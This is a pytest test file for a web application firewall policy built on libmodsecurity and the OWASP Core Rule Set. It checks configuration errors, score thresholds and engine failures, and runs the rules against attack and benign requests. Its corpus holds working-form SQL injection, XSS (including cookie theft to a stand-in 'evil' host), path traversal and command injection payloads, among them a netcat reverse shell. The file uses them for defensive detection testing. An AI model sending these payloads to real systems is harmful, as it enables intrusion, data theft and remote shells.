"""owasp-crs-request and owasp-crs-response sans-IO: the config at each rule, the decision at
the threshold, what an engine that cannot run here does, the bound on rule sets kept, and
the real engine (libmodsecurity) with Debian's Core Rule Set on cases of each attack class
and on ordinary requests (skipped where the engine or the rules are not installed)."""

import os

import pytest

from chalicelib.core.policy import NEED_BODY, RESPOND, PolicyError, Response, waf
from tests.support.policy import compile_doc, conn, request, rule

A0 = "on_http_request[0].actions[0].config"
CRS = "actions.ngrok.owasp_crs_request"
BROWSER = [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("Accept", "text/html,*/*")]


def crs(phase="on_http_request", kind="owasp-crs-request", *more, **config):
    return {phase: [rule({"type": kind, "config": config}, *more)]}


def refused(d) -> PolicyError:
    with pytest.raises(PolicyError) as info:
        compile_doc(d)
    return info.value


@pytest.mark.parametrize(
    "config, path, words",
    [
        ({"on_error": "stop"}, f"{A0}.on_error", "continue or halt"),
        ({"process_body": "yes"}, f"{A0}.process_body", "boolean"),
        ({"exclude_rule_ids": [899999]}, f"{A0}.exclude_rule_ids[0]", "from 900000 to 999999"),
        ({"exclude_rule_ids": [1000000]}, f"{A0}.exclude_rule_ids[0]", "from 900000 to 999999"),
        ({"exclude_rule_ids": [942100, True]}, f"{A0}.exclude_rule_ids[1]", "rule id"),
        ({"exclude_rule_ids": ["942100"]}, f"{A0}.exclude_rule_ids[0]", "rule id"),
        ({"exclude_rule_ids": 942100}, f"{A0}.exclude_rule_ids", "must be a list"),
        ({"paranoia_level": 2}, f"{A0}.paranoia_level", "unknown field"),
    ],
)
def test_configs_are_refused_at_the_element(config, path, words):
    error = refused(crs(**config))
    assert error.path == path and words in error.message, error


def test_configs_at_their_bounds_are_accepted_and_the_phases_are_the_hosted_ones():
    compile_doc(crs(exclude_rule_ids=[900000, 999999], process_body=True, on_error="continue"))
    compile_doc(crs("on_http_response", "owasp-crs-response", process_body=False))
    assert "cannot run in on_http_response" in refused(crs("on_http_response")).message
    assert (
        "cannot run in on_http_request"
        in refused(crs("on_http_request", "owasp-crs-response")).message
    )


def test_too_many_excluded_ids_are_refused():
    with pytest.raises(PolicyError, match="the limit is 1000"):
        from chalicelib.core.policy import actions

        actions.build(
            {"type": "owasp-crs-request", "config": {"exclude_rule_ids": [900000] * 1001}},
            "on_http_request[0].actions[0]",
            "on_http_request",
        )


@pytest.mark.parametrize(
    "score, decision", [(0, "allow"), (4, "allow"), (5, "deny"), (30, "deny")]
)
def test_a_score_at_the_threshold_denies_and_the_thresholds_are_the_hosted_ones(score, decision):
    assert (waf.INBOUND_THRESHOLD, waf.OUTBOUND_THRESHOLD, waf.PARANOIA_LEVEL) == (5, 4, 1)
    assert waf.Verdict(score, 5, []).decision == decision
    assert waf.Verdict(score - 1, 4, []).decision == decision


class _Broken:
    def rules(self):
        raise waf.Unavailable("the OWASP CRS engine is not installed on this edge")


def test_an_engine_that_cannot_run_is_a_500_with_halt_and_an_error_with_continue(monkeypatch):
    monkeypatch.setattr(waf, "ENGINE", _Broken())
    halted = compile_doc(crs())
    out = halted.on_http_request(conn(), request(headers=BROWSER), halted.new_state())
    assert out.kind == RESPOND and out.status_code == 500
    assert ("ngrok-error-code", "ERR_NGROK_2300") in out.headers
    show = {"type": "custom-response", "config": {"body": f"${{{CRS}.error.message}}"}}
    p = compile_doc(crs("on_http_request", "owasp-crs-request", show, on_error="continue"))
    out = p.on_http_request(conn(), request(headers=BROWSER), p.new_state())
    assert out.body == b"the OWASP CRS engine is not installed on this edge"


def test_process_body_asks_for_the_first_4_kib_of_the_body(monkeypatch):
    monkeypatch.setattr(waf, "ENGINE", _Broken())
    p = compile_doc(crs(process_body=True, on_error="continue"))
    assert p.request_body_limit == 4096
    out = p.on_http_request(conn(), request(method="POST", headers=BROWSER), p.new_state())
    assert out.kind == NEED_BODY and out.max_body_bytes == 4096
    assert compile_doc(crs()).request_body_limit == 0


def test_one_rule_set_is_built_once_and_a_failure_is_kept(monkeypatch):
    engine = waf._Engine()
    built = []
    monkeypatch.setattr(engine, "_build", lambda: built.append(1) or object())
    first = engine.rules()
    assert engine.rules() is first and built == [1]
    broken = waf._Engine()

    def fail():
        built.append(2)
        raise waf.Unavailable("no rules")

    monkeypatch.setattr(broken, "_build", fail)
    for _ in range(3):
        with pytest.raises(waf.Unavailable, match="no rules"):
            broken.rules()
    assert built == [1, 2]  # not retried per request


# ---- the real engine and rules ------------------------------------------------------------
def _engine_here():
    try:
        import libmodsecurity  # noqa: F401
    except ImportError:
        return False
    return os.path.isdir(os.path.join(waf.CRS_DIR, "rules"))


real = pytest.mark.skipif(not _engine_here(), reason="libmodsecurity or modsecurity-crs absent")


@real
@pytest.mark.parametrize(
    "target, rule_id",
    [
        ("/?id=1%27%20OR%20%271%27%3D%271", 942100),
        ("/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 941100),
        ("/?f=..%2F..%2Fetc%2Fpasswd", 930100),
        ("/?f=%2Fetc%2Fshadow", 930120),
        ("/?h=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd", 932100),
    ],
)
def test_each_attack_class_scores_its_crs_rule(target, rule_id):
    found = waf.inspect_request(conn(), request(target, headers=BROWSER), (), None)
    assert found.decision == "deny" and found.score >= 5 and found.threshold == 5
    assert rule_id in [m["id"] for m in found.matched]
    assert all(not str(m["id"]).startswith(("949", "4990")) for m in found.matched)


@real
def test_ordinary_requests_score_nothing():
    for target in ("/", "/search?q=bread%2C+quickly%3F", "/a/b.js?v=3", "/x?page=2&sort=name"):
        found = waf.inspect_request(conn(), request(target, headers=BROWSER), (), None)
        assert (found.decision, found.score, found.matched) == ("allow", 0, []), target


@real
def test_the_body_counts_only_when_given_and_only_its_first_4_kib():
    form = BROWSER + [("Content-Type", "application/x-www-form-urlencoded")]
    attack = b"q=1+UNION+SELECT+password+FROM+users"
    req = request("/", method="POST", headers=form + [("Content-Length", str(len(attack)))])
    assert waf.inspect_request(conn(), req, (), None).decision == "allow"
    assert waf.inspect_request(conn(), req, (), attack).decision == "deny"
    late = b"p=" + b"a" * 4094 + b"&" + attack
    assert waf.inspect_request(conn(), req, (), late).decision == "allow"


@real
def test_an_excluded_rule_scores_nothing_and_a_response_leak_is_found():
    req = request("/?id=1%27%20OR%20%271%27%3D%271", headers=BROWSER)
    assert waf.inspect_request(conn(), req, (942100,), None).decision == "allow"
    res = Response(status_code=200, headers=[("Content-Type", "text/plain")])
    leak = b"You have an error in your SQL syntax; check the manual"
    found = waf.inspect_response(conn(), request(headers=BROWSER), res, (), leak)
    assert found.decision == "deny" and found.threshold == 4
    assert [m["id"] for m in found.matched] == [951230]
    assert waf.inspect_response(conn(), request(headers=BROWSER), res, (), None).score == 0


# Classic payloads of each class CRS names (the usual cheat-sheet forms), and ordinary search
# terms that look like them in part (quotes, SQL words, angle brackets, paths, ampersands).
CORPUS = {
    "sqli": [
        "1' OR '1'='1",
        "1' OR 1=1--",
        "admin'--",
        "1; DROP TABLE users--",
        "1 UNION SELECT null, version()--",
        "' UNION ALL SELECT username, password FROM users--",
        "1 AND SLEEP(5)",
        "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
        "1; EXEC xp_cmdshell('dir')",
        "' OR ''='",
        "1' WAITFOR DELAY '0:0:5'--",
        "-1 OR 2+2=4",
    ],
    "xss": [
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "<svg onload=alert(1)>",
        "javascript:alert(document.domain)",
        "<body onload=alert('x')>",
        '<iframe src="javascript:alert(1)"></iframe>',
        "'><script>document.location='http://evil/'+document.cookie</script>",
        '<a href="javascript:alert(1)">x</a>',
        '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
        '<div style="background:url(javascript:alert(1))">',
    ],
    "lfi": [
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "....//....//etc/passwd",
        "/etc/shadow",
        "..\\..\\..\\windows\\win.ini",
        "/proc/self/environ",
        "file:///etc/passwd",
    ],
    "rce": [
        "; cat /etc/passwd",
        "| id",
        "`whoami`",
        "$(id)",
        "127.0.0.1 && ls -la",
        "; nc -e /bin/sh 10.0.0.1 4444",
        "| powershell -enc ZQBjAGgAbwA=",
    ],
}
BENIGN = [
    "bread",
    "how to bake bread, quickly?",
    "O'Reilly books",
    "C++ templates",
    "price < 50 and > 10",
    "rock & roll",
    "2 + 2 = 4",
    "the select committee met",
    "union station",
    "drop-down menu",
    "script writing tips",
    "100% cotton",
    "email me: ann@example.com",
    "path/to/my/file.txt",
    "it's a dog's life",
    "SELECT your seat",
    "#1 hits of 1999",
    "50% off; today only",
    "what is 3*4?",
    "résumé tips",
]


def _denied(value):
    from urllib.parse import quote

    req = request("/page?q=" + quote(value), headers=BROWSER)
    return waf.inspect_request(conn(), req, (), None).decision == "deny"


@real
def test_the_attack_corpus_is_caught_and_ordinary_searches_are_not():
    missed = [p for payloads in CORPUS.values() for p in payloads if not _denied(p)]
    # 35 of 36 at paranoia level 1: "| id" (a two-letter command) is a level-2 finding
    assert missed == ["| id"]
    assert [b for b in BENIGN if _denied(b)] == []  # 0 false positives of 20
